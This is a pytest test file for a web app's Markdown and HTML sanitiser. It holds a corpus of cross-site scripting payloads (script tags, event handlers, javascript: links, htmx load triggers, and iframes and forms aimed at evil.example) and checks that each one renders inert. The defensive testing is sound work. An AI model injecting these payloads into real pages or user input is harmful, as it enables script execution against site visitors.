"""The one sanitiser: user Markdown renders to inert HTML whatever is typed."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from consult.core.sanitize import ALLOWED_TAGS, clean_html, render_markdown

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<div hx-get="/admin/users" hx-trigger="load" hx-target="body">x</div>',
    '<button hx-post="/logout" hx-trigger="load">x</button>',
    '<form action="https://evil.example"><input name=q></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<style>body{display:none}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<details open ontoggle=alert(1)>',
    '"><script>alert(1)</script>',
    "<a href='https://ok.example' onclick='alert(1)'>ok</a>",
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "```html\n<script>alert(1)</script>\n```",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
]

class Elements(HTMLParser):
    """Collects the real elements and attributes of an HTML fragment (text is not markup)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}


def assert_inert(html: str) -> None:
    for tag, attrs in Elements(html).found:
        assert tag in ALLOWED_TAGS, (tag, html)
        assert set(attrs) <= SAFE_ATTRIBUTES.get(tag, set()), (tag, attrs)
        if "href" in attrs:
            assert re.match(r"^(https?:|mailto:)", attrs["href"] or ""), attrs["href"]


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_markdown_render_is_inert(payload):
    assert_inert(str(render_markdown(payload)))


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_clean_html_is_inert_even_for_raw_html(payload):
    assert_inert(str(clean_html(payload)))


def test_corpus_leaves_no_script_tag_or_handler_in_markup():
    for payload in XSS_CORPUS:
        found = Elements(str(render_markdown(payload)) + str(clean_html(payload))).found
        assert not any(tag in {"script", "svg", "img", "iframe"} for tag, _ in found)
        assert not any(name.startswith(("on", "hx-", "style")) for _, attrs in found for name in attrs)


def test_markdown_keeps_ordinary_formatting():
    text = "## Kop\n\nEen **vette** en *schuine* tekst met [link](https://www.leiden.nl).\n\n- een\n- twee\n"
    assert str(render_markdown(text)) == (
        "<h2>Kop</h2>\n<p>Een <strong>vette</strong> en <em>schuine</em> tekst met "
        '<a href="https://www.leiden.nl" rel="nofollow noopener noreferrer">link</a>.</p>\n'
        "<ul>\n<li>een</li>\n<li>twee</li>\n</ul>\n"
    )


def test_markdown_h1_becomes_h2():
    assert str(render_markdown("# Titel")) == "<h2>Titel</h2>\n"


def test_raw_html_is_shown_as_text():
    assert str(render_markdown("a <b>b</b>")) == "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"


def test_bidi_and_zero_width_are_dropped_and_nul_replaced():
    # markdown-it replaces NUL by U+FFFD (CommonMark); bidi and zero-width characters go.
    assert str(render_markdown("a\u202eb\u200bc\x00d\u2066e")) == "<p>abc\ufffdde</p>\n"


def test_empty_text_renders_empty():
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


def test_markdown_filter_used_in_templates(app):
    rendered = app.jinja_env.from_string("{{ text|markdown }}").render(text="<script>x</script> *a*")
    assert rendered == "<p>&lt;script&gt;x&lt;/script&gt; <em>a</em></p>\n"


@pytest.mark.parametrize("text, parts", [
    ("", []),
    ("# Kop\n\n*Schuin* en **vet**.", [("heading", "Kop"), ("paragraph", "Schuin en vet.")]),
    ("Regel een\nregel twee", [("paragraph", "Regel een\nregel twee")]),
    ("2027. Daarna de aanbesteding.", [("list", ["Daarna de aanbesteding."], 2027)]),
    ("1. eerste\n\n   vervolg\n2. tweede", [("list", ["eerste\nvervolg", "tweede"], 1)]),
    ("- a\n\n  ```\n  code\n  ```\n- b", [("list", ["a\ncode", "b"], None)]),
    ("- x\n  1. y\n  2. z\n- w\n  - v", [("list", ["x\n1. y\n2. z", "w\n– v"], None)]),
    ("Tarief ~~€ 50~~ € 60", [("paragraph", "Tarief ~~€ 50~~ € 60")]),
    ("0. nul\n1. een", [("list", ["nul", "een"], 0)]),
    ("- ```\n\n  x\n  ```", [("list", ["x"], None)]),
    ("[https://e.example.org/a%20b](https://e.example.org/a%20b)", [("paragraph", "https://e.example.org/a%20b")]),
    ("<https://wijk.example.org/ä> en [de wijk](https://wijk.example.org)",
     [("paragraph", "https://wijk.example.org/ä en de wijk (https://wijk.example.org)")]),
    ("| a | b |\n|---|---|\n| 1 | 2 |", [("paragraph", "a | b"), ("paragraph", "1 | 2")]),
    ("<b>vet</b> \u202eomgekeerd\x00", [("paragraph", "<b>vet</b> omgekeerd")]),
])
def test_markdown_becomes_plain_parts_for_documents(text, parts):
    """What the report makes of a text a person wrote: the words as the page shows them, lists as
    lists (numbered from where they start), an item's paragraphs, code and lists inside the item."""
    from consult.core.sanitize import markdown_parts

    assert markdown_parts(text) == parts
